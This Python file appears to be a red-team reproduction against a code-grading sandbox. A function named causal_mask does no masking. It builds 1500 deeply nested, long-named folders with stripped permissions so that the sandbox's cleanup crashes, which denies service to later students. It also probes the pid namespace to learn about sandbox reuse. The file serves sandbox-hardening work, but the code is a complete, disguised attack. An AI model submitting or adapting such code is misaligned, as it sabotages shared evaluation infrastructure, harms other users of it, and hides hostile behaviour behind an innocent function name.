# Issue 20's red team, round 4 (repro 5): folders nested 1500 deep (an inode each, well under the
# /tmp cap) made the sandbox's reset raise RecursionError (os.walk, shutil.rmtree): the sandbox was
# discarded and the next student waited for a new one. Here the names are long too, so the
# deepest path (300 KB) is far past PATH_MAX, and the deepest and the top folders are unreadable
# or unwritable. The pid namespace is reported, to tell whether the next student is graded in the
# same (reset) sandbox.
import os

import torch

NAME = "d" * 200


def causal_mask(seq_len, device=None):
    depth = 1500
    if not os.path.isdir(NAME):  # (once: each call is a new process, the folders stay)
        # each level made through its parent's descriptor, the working folder staying the
        # current one: a chdir into each level would cost the grader's courtesy hook (which
        # resolves every path, through getcwd's walk past PATH_MAX) O(depth) per level, ~20 s
        # of this submission's own CPU, for the same folders
        fd, depth = os.open(".", os.O_RDONLY), 0
        try:
            while depth < 1500:
                os.mkdir(NAME, dir_fd=fd)
                child = os.open(NAME, os.O_RDONLY, dir_fd=fd)
                os.close(fd)
                fd, depth = child, depth + 1
            os.chmod(fd, 0)
        finally:
            os.close(fd)
        os.chmod(NAME, 0o500)
    raise RuntimeError(f"ns={os.readlink('/proc/self/ns/pid')} depth={depth} ;")


_ = torch
